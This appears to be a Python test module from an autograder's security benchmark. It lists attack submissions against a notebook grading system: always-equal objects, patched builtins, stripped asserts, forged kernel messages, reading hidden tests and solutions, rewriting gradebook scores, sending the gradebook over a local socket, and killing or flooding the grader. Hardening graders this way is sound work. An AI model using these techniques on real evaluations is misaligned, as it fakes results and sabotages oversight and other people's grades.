"""Which attacks lie in the answer itself?"""

from __future__ import annotations

import sqlite3
from contextlib import closing
from pathlib import Path

from tests.benchmarks.attacks.attack import RIGHT, WRONG, Attack

EQUAL = """
class Yes:
    def __eq__(self, other):
        return {}

    def __add__(self, other):
        return self

    __radd__ = __add__

    def __repr__(self):
        return "all of them"


def hide(text):
    return Yes()
"""
PATCHED_BUILTINS = """
import builtins

builtins.sum = lambda *_: 5
builtins.AssertionError = type("Nothing", (Exception,), {"__str__": lambda self: ""})
"""
NO_ASSERT = """
import ast


class NoAssert(ast.NodeTransformer):
    def visit_Assert(self, node):
        return ast.Pass()

    def visit_Expr(self, node):
        return ast.Pass()


get_ipython().ast_transformers.append(NoAssert())
"""
EMPTY_CELLS = "\nget_ipython().input_transformers_post.append(lambda lines: [])\n"
FORGED_LINES = """
import json, os, sys

for number in (1, 2, 3):
    try:
        os.write(number, b'[0, "ok", "room ##"]\\n{"score": 10}\\n')
    except OSError:
        pass
shell = get_ipython()
send = shell.kernel.session.send


def forged(stream, kind, content=None, *rest, **more):
    if isinstance(kind, dict) and kind["msg_type"] == "execute_result":
        kind["content"]["data"] = {"text/plain": "5"}
    if kind == "error":
        kind, content = "execute_result", {"data": {"text/plain": "5"}, "metadata": {}, "execution_count": 1}
    if kind == "execute_reply":
        content = {"status": "ok", "execution_count": 1, "user_expressions": {}, "payload": []}
    return send(stream, kind, content, *rest, **more)


shell.kernel.session.send = forged
"""
PATCHED_JSON = """
import json
import sys

json.dumps = lambda *_, **__: '{"score": 10}'
sys.modules.clear()
"""
FRAMES = """
import ast
import sys


def hide(text):
    frame, seen = sys._getframe(1), []
    while frame:
        seen += [str(value) for value in (*frame.f_locals.values(), *frame.f_globals.values())]
        frame = frame.f_back
    return wanted("\\n".join(seen), text)


def wanted(code, text):
    for mark in (f'hide("{text}") == "', f'"{text}": "'):
        for line in code.replace("\\\\n", "\\n").replace("\\\\'", "'").split("\\n"):
            if mark in line:
                return line.split(mark)[1].split('"')[0]
    return text
"""
READS_GRADEBOOK = """
import sqlite3

tests = "\\n".join(row[0] for row in sqlite3.connect("ROOT/gradebook.db").execute("SELECT source FROM source_cell"))


def hide(text):
    for mark in (f'hide("{text}") == "', f'"{text}": "'):
        if mark in tests:
            return tests.split(mark)[1].split('"')[0]
"""
READS_SOURCE = """
import glob
import json

for path in glob.glob("ROOT/source/**/*.ipynb", recursive=True):
    for cell in json.load(open(path))["cells"]:
        if cell["metadata"].get("nbgrader", {}).get("solution"):
            exec("".join(cell["source"]))
"""
READS_OTHERS = """
import json

for cell in json.load(open("ROOT/submitted/ada/hide_digits/hide_digits.ipynb"))["cells"]:
    if cell["metadata"].get("nbgrader", {}).get("solution"):
        exec("".join(cell["source"]).removeprefix("%%answer hide"))
"""
WRITES_GRADEBOOK = """
import sqlite3

with sqlite3.connect("ROOT/gradebook.db", timeout=20) as book:
    book.execute("UPDATE grade SET manual_score = 500")
"""
LOWERS_OTHERS = """
import sqlite3

with sqlite3.connect("ROOT/gradebook.db", timeout=20) as book:
    mine = "SELECT id FROM submitted_assignment WHERE student_id != 'mallory'"
    theirs = f"SELECT id FROM submitted_notebook WHERE assignment_id IN ({mine})"
    book.execute(f"UPDATE grade SET manual_score = 0 WHERE notebook_id IN ({theirs})")
"""
OVERWRITES_OTHERS = """
import pathlib

pathlib.Path("ROOT/submitted/zoe/hide_digits/hide_digits.ipynb").write_text("{}")
"""
SENDS = """
import pathlib
import socket

with socket.create_connection(("127.0.0.1", PORT), timeout=5) as line:
    line.sendall(b"ROOT " + pathlib.Path("ROOT/gradebook.db").read_bytes())
"""
KILLS_PARENT = """
import os
import signal

os.kill(os.getppid(), signal.SIGKILL)
"""
STAYS = """
import subprocess

for _ in range(20):
    subprocess.Popen(["sleep", "600"], start_new_session=True)
"""
WRITES_OUTSIDE = """
import pathlib

for name in ("source/hide_digits/sitecustomize.py", "left-by-mallory"):
    pathlib.Path("ROOT", name).write_text("")
"""
WARNS = (
    'import re\nimport warnings\n\n\ndef hide(text):\n    warnings.warn("old")\n    return re.sub("[0-9]", "#", text)\n'
)
LOGS = (
    'import logging\nimport re\n\n\ndef hide(text):\n    logging.error("seen")\n    return re.sub("[0-9]", "#", text)\n'
)
SLOW = f"import time\n\ntime.sleep(3)\n{RIGHT}"
GROWS = "def hide(text):\n    kept = []\n    while True:\n        kept.append(bytearray(10**8))\n"
PRINTS = "def hide(text):\n    for _ in range(200):\n        print('x' * 100_000)\n    return text\n"


def granted(root: Path) -> str:
    """Tell whether points by hand lie in the gradebook that nobody gave."""
    with closing(sqlite3.connect(root / "gradebook.db")) as book:
        rows = book.execute("SELECT count(*) FROM grade WHERE manual_score IS NOT NULL").fetchone()[0]
    return f"{rows} grades by hand that nobody gave" if rows else ""


def left(root: Path) -> str:
    """Tell whether a file was left in the class's folder."""
    files = [name for name in ("source/hide_digits/sitecustomize.py", "left-by-mallory") if (root / name).exists()]
    return f"{len(files)} files left in the class's folder" if files else ""


ATTACKS = (
    Attack("an object equal to everything", EQUAL.format("True")),
    Attack("a score of `nan`", EQUAL.format('float("nan")')),
    Attack("a negative score", EQUAL.format("-1000")),
    Attack("a text for a score", EQUAL.format("self")),
    Attack("patched builtins", PATCHED_BUILTINS + WRONG),
    Attack("`assert` taken out of IPython's code", NO_ASSERT + WRONG),
    Attack("IPython made to run empty cells", EMPTY_CELLS + WRONG),
    Attack("forged messages to the grader", FORGED_LINES + WRONG),
    Attack("patched json, emptied sys.modules", PATCHED_JSON + WRONG),
    Attack("expected values read from the caller's frames", FRAMES),
    Attack("hidden tests read from gradebook.db", READS_GRADEBOOK),
    Attack("the solution read from source/", READS_SOURCE),
    Attack("another's submission read", READS_OTHERS, others=True),
    Attack("points written into gradebook.db", WRITES_GRADEBOOK + WRONG, others=True, proof=granted),
    Attack("others' points taken away", LOWERS_OTHERS + WRONG, others=True, proof=granted),
    Attack("another's submission overwritten", OVERWRITES_OTHERS + WRONG, others=True),
    Attack("files written into the class's folder", WRITES_OUTSIDE + WRONG, proof=left),
    Attack("the gradebook sent over the network", SENDS + WRONG),
    Attack("`SystemExit` in place of an answer", "def hide(text):\n    raise SystemExit(0)\n"),
    Attack("`SystemExit` while it is loaded", "raise SystemExit(0)\n"),
    Attack("`os._exit(0)`", "import os\n\n\ndef hide(text):\n    os._exit(0)\n", others=True),
    Attack("SIGKILL to the parent", KILLS_PARENT + WRONG, others=True),
    Attack("20 processes that stay", STAYS + WRONG),
    Attack("an endless loop", "def hide(text):\n    while True:\n        pass\n", others=True),
    Attack("memory without end", GROWS),
    Attack("20 MB of output a call", PRINTS),
    Attack(
        "endless recursion", "import sys\n\nsys.setrecursionlimit(2**30)\n\n\ndef hide(text):\n    return hide(text)\n"
    ),
    Attack("a right answer, and SIGKILL to the grader midway", SLOW, deserves=10, killed=True),
    Attack("a right answer that warns", WARNS, deserves=10),
    Attack("a right answer that logs", LOGS, deserves=10),
)
